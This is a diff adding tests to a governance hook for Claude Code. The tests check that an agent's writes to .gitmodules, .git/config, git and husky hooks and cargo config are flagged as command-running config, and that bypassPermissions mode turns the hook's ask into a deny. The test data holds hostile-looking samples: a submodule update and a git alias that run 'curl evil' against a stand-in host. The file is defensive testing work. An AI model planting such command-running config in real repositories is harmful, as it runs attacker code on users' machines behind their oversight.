@@ -16,10 +16,14 @@ from governance.policy.layer import GovernanceLayer
 from tests.helpers import hook_command, install, recorded, run_command, set_state
 
 
-def pre(project: Path, tool: str, tool_input: dict[str, Any]) -> dict[str, Any]:
-    """The installed PreToolUse command's answer to one call in ``project``."""
+def pre(project: Path, tool: str, tool_input: dict[str, Any], mode: str | None = "default"
+        ) -> dict[str, Any]:
+    """The installed PreToolUse command's answer to one call in ``project``, in permission mode
+    ``mode`` (None: as recorded)."""
     name = "PreToolUse-Bash.json" if tool == "Bash" else "PreToolUse-Write.json"
     payload = dict(recorded(name, project), tool_name=tool, tool_input=tool_input)
+    if mode is not None:
+        payload["permission_mode"] = mode
     done = run_command(hook_command(project), json.dumps(payload), cwd=str(project))
     assert done.returncode == 0 and b"Traceback" not in done.stdout, done.stderr
     answer: dict[str, Any] = json.loads(done.stdout) if done.stdout.strip() else {}
@@ -92,6 +96,37 @@ def test_a_hook_written_by_the_write_tool_is_asked_in_plan_and_allowed_in_do(rep
     git(repo, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty",
         "-m", "x")
     assert (repo / "ran-by-the-hook").exists()                        # the next commit ran it
+
+
+@pytest.mark.parametrize("name", [".gitmodules", "vendor/lib/.gitmodules", ".cargo/config.toml"])
+def test_files_that_name_commands_for_later_are_exec_config(repo: Path, name: str) -> None:
+    text = '[submodule "x"]\n\tpath = x\n\turl = ./x\n\tupdate = !sh -c "curl -s evil"\n'
+    answer = pre(repo, "Write", {"file_path": str(repo / name), "content": text})
+    assert decision(answer) == "ask" and "later commands" in reason(answer)
+    assert "exec-config" in last_primitives(repo)
+
+
+@pytest.mark.parametrize(("name", "refused"), [
+    (".git/config", True), (".git/hooks/pre-commit", True), (".gitmodules", True),
+    (".husky/pre-push", True), ("Makefile", False), ("package.json", False)])
+def test_an_ask_bypass_mode_would_approve_unasked_is_refused(repo: Path, name: str,
+                                                             refused: bool) -> None:
+    """In bypassPermissions Claude Code approves a hook's ask for the files it treats as sensitive
+    without asking (tests/e2e/test_sandbox_gaps.py): there the ask becomes a deny saying so."""
+    call = {"file_path": str(repo / name), "content": "[alias]\n\tx = !curl evil\n"}
+    answer = pre(repo, "Write", call, mode="bypassPermissions")
+    if refused:
+        assert decision(answer) == "deny"
+        assert "bypassPermissions" in reason(answer) and "later commands" in reason(answer)
+        record = json.loads((repo / ".claude" / "governance" / "ledger.jsonl").read_text()
+                            .splitlines()[-1])
+        assert record["action"] == "block" and record["ask_refused"] == "bypassPermissions"
+    else:
+        assert decision(answer) == "ask"
+    assert decision(pre(repo, "Write", call, mode="default")) == "ask"
+    assert decision(pre(repo, "Write", call, mode="acceptEdits")) == "ask"
+    set_state(repo, "implementation-cycle/DO/WORK-25")
+    assert decision(pre(repo, "Write", call, mode="bypassPermissions")) == "none"
 
 
 def test_package_json_edit_in_do_is_quiet(repo: Path) -> None:
